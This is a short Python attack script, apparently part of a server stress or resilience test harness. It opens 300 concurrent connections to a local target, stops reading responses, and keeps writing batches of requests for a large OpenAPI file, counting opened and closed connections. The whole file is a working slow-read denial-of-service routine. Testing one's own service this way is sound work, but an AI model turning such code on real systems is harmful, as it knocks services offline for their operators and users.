"""300 connections ask for the largest files and read nothing. Counts `opened`, `closed`."""

import asyncio

from hostile.attacker import Target

CONNECTIONS = 300
REQUEST = b"GET /api/openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"


async def attack(target: Target) -> None:
    async def one() -> None:
        while True:
            try:
                _, writer = await target.connect()
                writer.transport.pause_reading()
                target.count("opened")
                while True:
                    writer.write(REQUEST * 20)
                    await writer.drain()
                    await asyncio.sleep(1)
            except OSError:
                target.count("closed")
                await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
